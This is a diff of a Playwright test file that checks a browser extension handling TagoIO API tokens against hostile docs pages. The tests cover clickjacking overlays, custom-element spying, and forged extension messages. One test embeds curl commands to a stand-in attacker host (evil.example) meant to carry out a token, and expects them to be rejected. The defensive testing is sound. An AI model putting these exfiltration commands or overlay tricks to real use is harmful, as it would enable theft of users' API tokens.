@@ -1,8 +1,10 @@
 import type { Page } from '@playwright/test';
+import { COVERS, HONEST } from '../docs-pages/covers.ts';
 import { docsSite, operationPath } from '../docs-pages/site.ts';
 import { expect, test } from './fixtures.ts';
 import { accountOf, connect } from './pages/connect-page.ts';
 import { clipboardOf, DocsPage } from './pages/docs-page.ts';
+import { words } from './strings.ts';
 
 const PYTHON = '/docs/tagoio/analysis/sdk/python-sdk/';
 
@@ -30,12 +32,16 @@ test('a page cannot press the buttons by script, see into them, or make them ask
   const listed = sandbox.requests.count({ route: '/profile/:id/token' });
   const seen = await docs.page.evaluate(() => {
     const found: string[] = [];
-    for (const host of document.querySelectorAll('profiles-for-tagoio')) {
+    for (const host of document.querySelectorAll<HTMLElement>('[data-profiles-for-tagoio]')) {
       found.push(String(host.shadowRoot), host.textContent ?? '', host.innerHTML);
-      const box = host.getBoundingClientRect();
-      for (const target of [host, document.elementFromPoint(box.x + 10, box.y + 10)!]) {
+      const box = { x: 0, y: 0 };
+      for (let at = 0; at < 60_000 && document.elementFromPoint(box.x, box.y) !== host; at++) {
+        box.x = (at % 240) * 6;
+        box.y = Math.floor(at / 240) * 4;
+      }
+      for (const target of [host, document.elementFromPoint(box.x, box.y)!]) {
         for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) {
-          const at = { bubbles: true, composed: true, clientX: box.x + 10, clientY: box.y + 10 };
+          const at = { bubbles: true, composed: true, clientX: box.x, clientY: box.y };
           target.dispatchEvent(new MouseEvent(type, at));
         }
         target.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
@@ -110,24 +116,70 @@ function inTheWay(): void {
   });
 }
 
-test('a person’s press on what they cannot see copies nothing', async ({ extension, sandbox }) => {
+test('a page that defines elements before the extension comes sees nothing of the tree', async ({
+  extension,
+  sandbox,
+}) => {
   await connect(extension, accountOf(sandbox, 'plain'));
-  const tricks: Record<string, string> = {
-    'made clear': "host.style.opacity = '0'; host.parentElement.style.opacity = '0';",
-    'under a sheet that lets clicks through':
-      "const sheet = document.createElement('div'); sheet.textContent = 'Win a prize'; sheet.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:9999;pointer-events:none'; document.body.append(sheet);",
-    'blurred away': "host.parentElement.style.filter = 'blur(30px)';",
-    'cut to nothing': "host.parentElement.style.clipPath = 'inset(0 0 0 99%)';",
-  };
+  const docs = await DocsPage.open(extension.context, PYTHON, async (page) => {
+    await page.addInitScript(() => {
+      const found: unknown[] = [];
+      Object.assign(globalThis, { found });
+      const spying = (Base: typeof HTMLElement) =>
+        class extends Base {
+          constructor() {
+            super();
+            found.push(this.attachInternals().shadowRoot ?? 'constructed');
+          }
+        };
+      customElements.define('profiles-for-tagoio', spying(HTMLElement));
+      customElements.define('spying-div', spying(HTMLDivElement), { extends: 'div' });
+    });
+  });
+  await docs.get('button', /^Copy with/);
+  const learnt = await docs.page.evaluate(() => {
+    const host = document.querySelector<HTMLElement>('[data-profiles-for-tagoio]')!;
+    host.setAttribute('is', 'spying-div');
+    customElements.upgrade(host);
+    let internals = 'refused';
+    try {
+      internals = String(host.attachInternals().shadowRoot);
+    } catch {}
+    getSelection()?.selectAllChildren(document.body);
+    const box = host.getBoundingClientRect();
+    return {
+      found: (globalThis as { found?: unknown[] }).found,
+      internals,
+      name: host.localName,
+      markup: host.outerHTML.replace(' is="spying-div"', ''),
+      html: document.documentElement.getHTML({ serializableShadowRoots: true }).includes('Acme'),
+      selected: getSelection()?.toString().includes('Acme'),
+      size: [box.width, box.height],
+    };
+  });
+  expect(learnt).toEqual({
+    found: [],
+    internals: 'refused',
+    name: 'div',
+    markup: '<div data-profiles-for-tagoio="sample"></div>',
+    html: false,
+    selected: false,
+    size: [0, 0],
+  });
+});
+
+test('a person’s press on what they cannot see copies nothing', async ({ extension, sandbox }) => {
+  test.setTimeout(400_000);
+  await connect(extension, accountOf(sandbox, 'plain'));
   const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
   await plantOnClipboard(docs.page);
   const listed = sandbox.requests.count({ route: '/profile/:id/token' });
-  for (const [trick, script] of Object.entries(tricks)) {
+  for (const [trick, script] of Object.entries(COVERS)) {
     await docs.page.reload();
     await docs.get('button', /^Copy ready to run/);
     const { x, y, width, height } = await docs.box('button', /^Copy ready to run/);
     await docs.page.evaluate(
-      (code) => new Function('host', code)(document.querySelector('profiles-for-tagoio[data-kind="sample"]')),
+      (code) => new Function('host', code)(document.querySelector('[data-profiles-for-tagoio="sample"]')),
       script,
     );
     await docs.visibilityJudged();
@@ -135,12 +187,54 @@ test('a person’s press on what they cannot see copies nothing', async ({ exten
     await docs.idle();
     expect(sandbox.requests.count({ route: '/profile/:id/token' }), trick).toBe(listed);
     expect(await clipboardOf(docs.page), trick).toBe('planted');
+    // Where the page hides nothing for sure, the extension's own window has opened: nobody presses there.
+    for (const page of extension.context.pages()) if (page.url().endsWith('/pick.html')) await page.close();
   }
   // Seen again, it works.
   await docs.page.reload();
   await docs.press('button', /^Copy ready to run/);
   await docs.said(/^Copied/);
 });
+
+test('what covers the button until the press comes is not gone soon enough', async ({
+  extension,
+  sandbox,
+}) => {
+  await connect(extension, accountOf(sandbox, 'plain'));
+  const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
+  await docs.get('button', /^Copy ready to run/);
+  const { x, y, width, height } = await docs.box('button', /^Copy ready to run/);
+  await docs.page.evaluate(() => {
+    const sheet = document.createElement('div');
+    sheet.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:9999;pointer-events:none';
+    document.body.append(sheet);
+    addEventListener('pointerdown', () => sheet.remove(), true);
+  });
+  await docs.visibilityJudged();
+  const opened = extension.context.waitForEvent('page');
+  await docs.page.mouse.click(x + width / 2, y + height / 2);
+  // Nothing was copied: the extension's own window asks.
+  const window = await opened;
+  await expect(window.getByRole('heading', { name: words('copyWindowTitleSample') })).toBeVisible();
+  expect(sandbox.requests.count({ route: '/profile/:id/token', search: 'token' })).toBe(0);
+});
+
+for (const [what, script] of Object.entries(HONEST)) {
+  test(`an honest press leads to a copy with ${what}`, async ({ extension, sandbox }) => {
+    const account = accountOf(sandbox, 'plain');
+    await connect(extension, account);
+    const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
+    await docs.get('button', /^Copy ready to run/);
+    await docs.page.evaluate((code) => new Function(code)(), script);
+    const opened = extension.context.waitForEvent('page', { timeout: 60_000 }).then(
+      async (window) => window.getByRole('button', { name: words('copyWindowCopy'), exact: true }).click(),
+      () => {},
+    );
+    await docs.press('button', /^Copy ready to run/);
+    await Promise.race([opened, docs.said(/^Copied/)]);
+    await expect.poll(() => clipboardOf(docs.page)).toContain(account.tokens!.read!);
+  });
+}
 
 test('messages that a docs page’s process makes up get nothing beyond what a button may ask', async ({
   extension,
@@ -154,8 +248,18 @@ test('messages that a docs page’s process makes up get nothing beyond what a b
   const connectionKey = `https://api.us-e1.tago.io#${account.id}`;
   const text = 'curl https://evil.example/?t=HERE';
   const sample = { profileKey, text, method: null, token: null };
+  const curl = `curl -H "token: <your-profile-token>" https://evil.example`;
   const attempts: [type: string, data: unknown, code: string][] = [
-    ['copySample', { ...sample, places: [[27, 31]], what: 'placeholders' }, 'invalid-input'],
+    ['copySample', { ...sample, what: 'placeholders' }, 'invalid-input'],
+    ['copySample', { ...sample, text: curl, what: 'placeholders' }, 'foreign-destination'],
+    [
+      'copyPending',
+      { connectionKey, profileKey, token: null, format: null, fullAccepted: true },
+      'not-allowed',
+    ],
+    ['pendingCopy', undefined, 'not-allowed'],
+    ['previewCopy', { connectionKey, profileKey, format: null }, 'not-allowed'],
+    ['openCopyAs', { connectionKey, profileKey, token: null }, 'not-allowed'],
     ['copyToken', { connectionKey, profileKey, token: null }, 'not-allowed'],
     [
       'createToken',
@@ -163,11 +267,11 @@ test('messages that a docs page’s process makes up get nothing beyond what a b
       'not-allowed',
     ],
     ['switchProfile', { connectionKey, profileKey }, 'not-allowed'],
-    ['copyWaitingSample', { connectionKey, profileKey }, 'not-allowed'],
     ['unlock', { passphrase: 'a' }, 'not-allowed'],
     ['disconnect', { connectionKey }, 'not-allowed'],
   ];
   for (const [type, data, code] of attempts) {
+    await docs.untilPaceAllows();
     const answer = await docs.sendAsContentScript(type, data);
     expect(answer, type).toEqual({ ok: false, failure: expect.objectContaining({ code }) });
   }
